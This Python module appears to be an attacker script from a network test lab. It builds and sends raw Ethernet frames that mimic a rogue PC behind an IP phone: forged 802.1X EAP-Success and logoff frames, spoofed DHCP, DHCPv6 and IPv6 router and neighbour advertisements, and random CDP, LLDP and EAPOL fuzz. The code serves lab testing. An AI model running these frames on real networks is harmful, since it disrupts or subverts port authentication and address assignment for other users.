"""What a computer behind the phone may try on the wire; run in the node `pc`, `--help` tells how.

Prints how many frames it sent, as JSON.
"""

import argparse
import json
import random
import socket
import struct
import sys
from collections.abc import Iterable, Iterator, Sequence

from ringfence.lab.topology import PC, PHONE_MAC
from ringfence.protocols import eapol
from ringfence.protocols.neighbour import MULTICAST_CDP, MULTICAST_LLDP
from ringfence.runtime import host_interface

SUCCESS = bytes.fromhex("02000004 03070004")
"""EAPOL version 2, a packet, and in it EAP-Success. Source: IEEE 802.1X 11.3; RFC 3748 4.2."""
SHORTEST, LONGEST = 60, 1514


def eap(phone: bytes, own: bytes) -> Iterator[bytes]:
    """Yield what would open the phone's supplicant, and what would shut the switch's port."""
    kind = eapol.ETHERTYPE.to_bytes(2, "big")
    for target in (phone, eapol.GROUP):
        yield target + own + kind + SUCCESS
    yield eapol.logoff(phone)


def answers(phone: bytes, own: bytes) -> Iterator[bytes]:
    """Yield answers of servers and routers, empty ones: what counts is who sends them."""
    datagram = struct.pack("!HHHH", 67, 68, 8, 0)
    head = bytearray(
        struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 0, 0, 64, 17, 0, bytes(4), b"\xff" * 4)
    )
    total = sum(struct.unpack("!10H", head))
    struct.pack_into("!H", head, 10, ~((total >> 16) + total) & 0xFFFF)
    for target in (phone, b"\xff" * 6):
        yield target + own + b"\x08\x00" + bytes(head) + datagram
    for protocol, body in (
        (17, struct.pack("!HHHH", 547, 546, 8, 0)),
        (58, bytes((134, 0, 0, 0, 64, 0, 7, 8)) + bytes(8)),
        (58, bytes((137, 0)) + bytes(38)),
    ):
        six = struct.pack("!IHBB", 6 << 28, len(body), protocol, 255)
        six += socket.inet_pton(socket.AF_INET6, "fe80::bad")
        six += socket.inet_pton(socket.AF_INET6, "ff02::1")
        yield bytes.fromhex("333300000001") + own + b"\x86\xdd" + six + body


def noise(count: int, seed: int, own: bytes) -> Iterator[bytes]:
    """Yield frames of all three protocols that hold anything."""
    chance = random.Random(seed)  # noqa: S311 - noise, no key
    for _ in range(count):
        body = chance.randbytes(chance.randrange(1, 1480))
        kind = chance.randrange(3)
        if kind == 0:
            inner = bytes.fromhex("aaaa0300000c2000") + body
            yield MULTICAST_CDP + own + len(inner).to_bytes(2, "big") + inner
        elif kind == 1:
            yield MULTICAST_LLDP + own + b"\x88\xcc" + body
        else:
            yield eapol.GROUP + own + eapol.ETHERTYPE.to_bytes(2, "big") + body


def send(frames: Iterable[bytes]) -> int:
    """Put frames on the wire; return how many."""
    count = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as raw:
        raw.bind((PC.interface, 0))
        for frame in frames:
            raw.send(frame[:LONGEST].ljust(SHORTEST, b"\0"))
            count += 1
    return count


def main(words: Sequence[str]) -> None:
    """Do one of them. Raises `SystemExit` for wrong words."""
    parser = argparse.ArgumentParser(
        "python -m ringfence.lab.attacker",
        description="What a computer behind the phone may try on the wire.",
    )
    verbs = parser.add_subparsers(dest="verb", required=True)
    for verb, says in (
        ("eapol", "an unasked EAP-Success for the phone, and a logoff in its name"),
        ("advertise", "answers of DHCP, DHCPv6 and routers that nobody asked for"),
    ):
        made = verbs.add_parser(verb, help=says, description=says)
        made.add_argument(
            "phone", nargs="?", type=address, default=PHONE_MAC, help="its MAC address"
        )
    fuzz = verbs.add_parser("fuzz", help="noise as CDP, LLDP and EAPOL")
    fuzz.add_argument("count", nargs="?", type=int, default=1000, help="frames; %(default)s")
    fuzz.add_argument("seed", nargs="?", type=int, default=0)
    asked = parser.parse_args(words)
    own = host_interface.hardware_address(PC.interface)
    if asked.verb == "fuzz":
        frames = noise(asked.count, asked.seed, own)
    else:
        frames = eap(asked.phone, own) if asked.verb == "eapol" else answers(asked.phone, own)
    print(json.dumps({"sent": send(frames)}))


def address(text: str) -> bytes:
    """Return the bytes of a MAC address. Raises `ValueError`."""
    made = bytes.fromhex(text.replace(":", ""))
    if len(made) != len(eapol.GROUP):
        raise ValueError(text)
    return made


if __name__ == "__main__":
    main(sys.argv[1:])
